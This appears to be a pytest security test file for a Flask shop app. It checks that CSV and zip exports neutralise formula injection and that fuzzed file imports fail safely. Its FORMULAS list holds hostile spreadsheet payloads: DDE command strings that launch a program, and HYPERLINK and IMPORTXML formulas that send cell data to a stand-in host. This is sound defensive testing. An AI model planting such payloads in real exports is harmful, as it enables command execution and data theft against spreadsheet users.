"""No cell of any file for spreadsheets is calculated, whoever wrote it; and no file that is taken in does harm.

Stands for CSV formulas (CVE-2022-45810, CVE-2022-46803, CVE-2018-9035) and for trusted imports (CVE-2022-0479).
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select
from werkzeug.test import TestResponse

import tracker
from tests.admin.conftest import Person
from tests.factories import Browser, forget_published, make_popup, make_shop, survey_document
from tests.security.hostile_shop import as_file, fill
from tests.security.xss_vectors import Texts
from tracker.admin.csv_files import harmless
from tracker.clock import now
from tracker.contacts.models import Contact
from tracker.db import db, read_only
from tracker.decide.rules import check_rule
from tracker.decide.transfer import TransferError, plan_import
from tracker.popups.coupon_files import PoolError
from tracker.popups.coupons import add_codes, create_pool
from tracker.shops.models import Shop
from tracker.shops.shops import shop_by_key

BEGINS = r"=+\-@" "\uff1d\uff0b\uff0d\uff20" "\ufe66\ufe62\ufe63\ufe6b" "\u2212\u207a"
UNSEEN = r"\s\x00-\x20\u00a0\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufe00-\ufe0f\ufeff"
CALCULATED = re.compile(rf"[{UNSEEN}]*[{BEGINS}]|[\t\r\n]")

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\u2028@x",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\u00ad=1+1",
    "\u202e=1+1",
    "\u2066=1+1",
    "\ufe0f=1+1",
    "\ufe661+1",
    "\ufe621",
    "\u22121+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("//zxss.example?"&A1,"x")',
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("//zxss.example?",A1),"//a")',
    "+44 20 7946 0958",
)


@pytest.fixture
def hostile(app: Flask) -> str:
    """A shop where every cell was written by somebody who knows spreadsheets."""
    settings = {"consent_mode": "full", "capture_mode": "all", "capture_kinds": ["email", "phone", "name"]}
    return make_shop(app, "Hostile", **settings)


class Formulas(Texts):
    """As the attacks, but each text begins as a formula does."""

    def __call__(self, field: str, longest: int) -> str:
        at = self._at[field] = self._at.get(field, -1) + 1
        return f"{FORMULAS[at % len(FORMULAS)]} {field}"[:longest]


def exports_of(app: Flask, values: dict[str, str]) -> dict[str, str]:
    """The endpoints that give such a file, with their addresses: found by what they do, not by their names."""
    found = {}
    for rule in app.url_map.iter_rules():
        view = app.view_functions[rule.endpoint]
        module = Path(tracker.__file__).parent.parent / (view.__module__.replace(".", "/") + ".py")
        is_export = rule.rule.endswith((".csv", "/export"))
        if rule.rule.startswith("/admin") and is_export and module.exists():
            found[rule.endpoint] = re.sub(r"<(?:\w+:)?(\w+)>", lambda match: values[match.group(1)], rule.rule)
    return found


def test_every_place_that_makes_such_a_file_is_known_here(app: Flask) -> None:
    using = {
        path.stem
        for path in (Path(tracker.__file__).parent).rglob("*.py")
        if re.search(r"\bcsv_answer\(", path.read_text()) and path.stem != "csv_files"
    }
    names = {"key": "k", "popup": "p", "pool": "q", "contact": "c"}
    known = {endpoint.split(".")[1] for endpoint in exports_of(app, names)}
    # Two lists share one module.
    assert using - {"captured_list"} <= known | {"captured_list"}
    assert {"captures", "details"} <= known
    writers = {
        path.name
        for path in (Path(tracker.__file__).parent).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    }
    # transfer.py hands codes to the reader of files: nobody opens what it writes. access.py is given `harmless`.
    assert writers == {"csv_files.py", "transfer.py", "access.py"}


def test_no_cell_of_any_export_is_a_formula(app: Flask, hostile: str, operator: Person) -> None:
    values = fill(app, hostile, Formulas(), visitors=4, batches=len(FORMULAS))
    popup = make_popup(app, hostile, survey_document())
    forget_published(app)
    for number, formula in enumerate(FORMULAS):
        one = Browser(app.test_client(), hostile, address=f"127.0.1.{number}")
        answer = {"reason": {"chosen": ["other"], "text": formula}}
        one.submit(popup, one.see(popup), step="start", fields=answer)
    cells = 0
    for endpoint, path in exports_of(app, {**values, "popup": popup}).items():
        read_only.set(False)
        answer = operator.post(path, {"reason": "=1+1, and so on"})
        assert answer.status_code == 200, (endpoint, answer.text[:300])
        if answer.mimetype == "text/csv":
            assert answer.headers["X-Content-Type-Options"] == "nosniff"
            assert answer.headers["Content-Disposition"].startswith("attachment")
            cells += look_at_cells(answer.text, endpoint)
    assert cells > 300


def test_no_cell_of_any_file_in_a_contacts_download_is_a_formula(app: Flask, hostile: str, operator: Person) -> None:
    """All that is kept of one person, a file a table: what they sent stands in more than a dozen of them."""
    make_popup(app, hostile, survey_document(), "Asks why")
    values = fill(app, hostile, Formulas(), visitors=4, batches=len(FORMULAS))
    with app.app_context():
        contacts = db.session.scalars(select(Contact.public_id).where(Contact.shop_id == shop_by_key(hostile).id)).all()
    cells, tables = 0, set()
    for contact in contacts:
        read_only.set(False)
        path = f"/admin/shops/{hostile}/contacts/{contact}/download"
        answer = operator.post(path, {"format": "csv", "reason": "=1+1, and so on"})
        assert (answer.status_code, answer.mimetype) == (200, "application/zip"), answer.text[:300]
        for name, text in files_in(answer):
            tables.add(name)
            cells += look_at_cells(text, f"{path}: {name}")
    assert values["contact"] in contacts
    assert {"capture.csv", "stored_event.csv", "order.csv", "session.csv", "consent.csv", "popup_answer.csv"} <= tables
    assert cells > 1000


def files_in(answer: TestResponse) -> Iterator[tuple[str, str]]:
    """Name and text of each file of a zip; nothing of it would be unpacked anywhere but beside it."""
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Disposition"].startswith("attachment")
    with zipfile.ZipFile(io.BytesIO(answer.data)) as archive:
        for name in archive.namelist():
            assert re.fullmatch(r"[a-z_]+\.csv", name)
            yield name, archive.read(name).decode()


def look_at_cells(text: str, where: str) -> int:
    """How many cells a file has; none may be calculated, and a separator in a cell may begin none."""
    text, cells = text.removeprefix("\ufeff"), 0
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            cells += 1
            assert not CALCULATED.match(cell), (where, cell)
    assert re.fullmatch(r'(?:"(?:[^"]|"")*"(?:,|\r\n))*', text), where
    return cells


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_a_text(formula: str) -> None:
    assert harmless(formula).startswith("'")
    assert not CALCULATED.match(harmless(formula))


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=20) | st.sampled_from(FORMULAS))
def test_whatever_is_written_is_no_formula_and_can_be_read_back(text: str) -> None:
    cell = harmless(text)
    assert not CALCULATED.match(cell)
    assert cell.removeprefix("'").replace("\x00", "") == text.replace("\x00", "").removeprefix("'") or cell == text


KEYS = ("popups", "groups", "segments", "pools", "name", "status", "document", "draft", "steps", "game", "rule", "v")

quietly = settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
lines = st.lists(st.text(max_size=30) | st.sampled_from(['"', '""', '"a\n', "a;b", "a\tb", "\0", "\ud800", *FORMULAS]))


@pytest.fixture
def shop_id(app: Flask) -> int:
    key = make_shop(app, "Files")
    with app.app_context():
        found = shop_by_key(key)
        assert found is not None
        return found.id


@quietly
@given(text=lines.map("\n".join) | st.text(max_size=200))
def test_whatever_file_of_codes_is_taken_in_is_taken_or_refused_in_words(app: Flask, shop_id: int, text: str) -> None:
    with app.app_context():
        read_only.set(False)
        pool = create_pool(db.session(), shop_id, "Pool", now())
        try:
            add_codes(db.session(), pool, text.encode(errors="replace").decode())
        except PoolError as error:
            assert str(error)
        db.session.rollback()


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=10),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(KEYS) | st.text(max_size=5), inner),
    max_leaves=15,
)


files = st.lists(st.dictionaries(st.sampled_from(KEYS), json_values)).map(lambda entries: {"popups": entries})


@quietly
@given(value=json_values | files)
def test_whatever_file_of_popups_is_taken_in_is_taken_or_refused_in_words(app: Flask, shop_id: int, value: Any) -> None:
    with app.app_context():
        shop = db.session.get(Shop, shop_id)
        try:
            plan_import(shop, value, now(), check_rule)
        except TransferError as error:
            assert str(error)
        db.session.rollback()


def test_a_hostile_file_of_popups_is_taken_in_as_texts(app: Flask, shop_id: int) -> None:
    with app.app_context():
        shop = db.session.get(Shop, shop_id)
        [planned] = plan_import(shop, json.loads(as_file(app, "", Texts())), now(), check_rule)
        assert planned.problem is None
